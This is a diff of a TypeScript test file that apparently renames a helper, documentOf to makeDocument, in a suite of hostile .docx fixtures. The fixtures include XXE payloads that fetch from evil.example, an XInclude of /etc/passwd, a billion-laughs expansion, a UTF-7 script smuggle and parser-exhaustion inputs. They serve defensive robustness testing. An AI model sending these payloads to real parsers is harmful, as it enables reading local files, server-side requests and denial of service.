@@ -5,9 +5,9 @@ import { zip } from '../zip.ts';
 import type { HostileOpening } from './opening.ts';
 
 const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
-const documentOf = (xml: string) => hostileDocx({ parts: { 'word/document.xml': xml } });
+const makeDocument = (xml: string) => hostileDocx({ parts: { 'word/document.xml': xml } });
 const withDoctype = (doctype: string, body = '') =>
-  documentOf(
+  makeDocument(
     `<?xml version="1.0"?><!DOCTYPE w:document [${doctype}]><w:document ${word}><w:body>${body}</w:body></w:document>`,
   );
 const laughs = Array.from(
@@ -131,7 +131,7 @@ const docx: [string, HostileOpening['build'], slow?: 'slow'][] = [
   ],
   ['an external entity of the web', () => withDoctype('<!ENTITY a SYSTEM "http://evil.example/a">', '&a;')],
   ['a parameter entity', () => withDoctype('<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;')],
-  ['an external document type', () => documentOf('<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>')],
+  ['an external document type', () => makeDocument('<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>')],
   ['a thousand million laughs', () => withDoctype(`<!ENTITY l0 "ha">${laughs}`, '&l12;')],
   [
     'one long entity many times',
@@ -141,21 +141,21 @@ const docx: [string, HostileOpening['build'], slow?: 'slow'][] = [
   [
     'an inclusion of a file',
     () =>
-      documentOf(
+      makeDocument(
         '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>',
       ),
   ],
-  ['a style sheet of the web', () => documentOf('<?xml-stylesheet href="http://evil.example/a.xsl"?><a/>')],
-  ['elements 200,000 deep', () => documentOf('<a>'.repeat(200_000))],
+  ['a style sheet of the web', () => makeDocument('<?xml-stylesheet href="http://evil.example/a.xsl"?><a/>')],
+  ['elements 200,000 deep', () => makeDocument('<a>'.repeat(200_000))],
   [
     'an element of 200,000 attributes',
-    () => documentOf(`<a ${Array.from({ length: 200_000 }, (_, i) => `a${i}="b"`).join(' ')}/>`),
+    () => makeDocument(`<a ${Array.from({ length: 200_000 }, (_, i) => `a${i}="b"`).join(' ')}/>`),
   ],
-  ['an attribute of 20 MB', () => documentOf(`<a b="${'c'.repeat(20_000_000)}"/>`), 'slow'],
-  ['XML in UTF-7', () => documentOf('<?xml version="1.0" encoding="UTF-7"?>+ADw-script+AD4-')],
-  ['XML that is noise', () => documentOf('\ufffe\uffff\u0000\u0001')],
-  ['a comment without an end', () => documentOf(`<!--${'-'.repeat(1_000_000)}`)],
-  ['CDATA without an end', () => documentOf(`<![CDATA[${']'.repeat(1_000_000)}`)],
+  ['an attribute of 20 MB', () => makeDocument(`<a b="${'c'.repeat(20_000_000)}"/>`), 'slow'],
+  ['XML in UTF-7', () => makeDocument('<?xml version="1.0" encoding="UTF-7"?>+ADw-script+AD4-')],
+  ['XML that is noise', () => makeDocument('\ufffe\uffff\u0000\u0001')],
+  ['a comment without an end', () => makeDocument(`<!--${'-'.repeat(1_000_000)}`)],
+  ['CDATA without an end', () => makeDocument(`<![CDATA[${']'.repeat(1_000_000)}`)],
   [
     'types that lead to themselves',
     () =>
